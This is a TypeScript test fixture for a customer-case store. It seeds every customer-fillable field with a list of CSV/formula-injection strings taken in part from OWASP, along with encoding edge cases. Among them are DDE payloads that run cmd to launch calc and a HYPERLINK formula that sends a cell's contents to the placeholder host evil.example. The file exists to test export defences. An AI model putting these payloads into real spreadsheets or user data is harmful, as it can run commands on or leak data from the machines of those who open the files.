import type { Store } from '../../../../storage/index.ts';
import { caseRecord, conversation, entry, instant } from '../../../support/records.ts';
import { takeTurn } from '../../../support/turns.ts';

/** Cells that a spreadsheet would run or spoil, and texts that break lists of cells. Some after OWASP, CSV Injection. */
export const HOSTILE_CELLS: readonly string[] = [
  '=1+1',
  '=cmd|"/c calc"!A1',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '　＝1+1',
  '＠SUM(A1)',
  '－1',
  '\u0000=1+1',
  '","=1+1',
  '"",=1+1',
  '\r\n=1+1',
  'a;=1+1',
  "';=1",
  '%0A=1+1',
  '\u00a0=1',
  '\ufeff=1+1',
  '6222021234567890123',
  '000123',
  '1E10',
  '11-12',
  '退款，"加急"\r\n第二行',
  '🙂\ud800x',
];

/** Puts a case into the store for each text, which stands in every place that a customer can fill. */
export async function fillHostile(store: Store, texts: readonly string[]): Promise<void> {
  for (const [n, text] of texts.entries()) {
    const key = `hostile-${n}`;
    const known = { state: 'known' as const, value: text.toWellFormed().slice(0, 2000) || '-', at: instant(0) };
    const record = caseRecord(key, 'c', {
      number: `K-h${n}`,
      openedAt: instant(n),
      customer: { id: `u${n}`, name: text.slice(0, 500) },
      opening: { activityId: 'a1', text: text.slice(0, 4000) },
      facts: { product: known, batch: known, place: known, details: known, symptoms: known },
      csat: { score: 1, askedAt: instant(1), comment: text.slice(0, 2000) },
    });
    await takeTurn(store, key, 1, (seq) => ({
      conversation: conversation(key, { lastSeq: seq, cases: [record] }),
      cases: [record],
      entries: [entry(key, seq, { activityId: 'a1', text, caseId: 'c' })],
    }));
  }
}
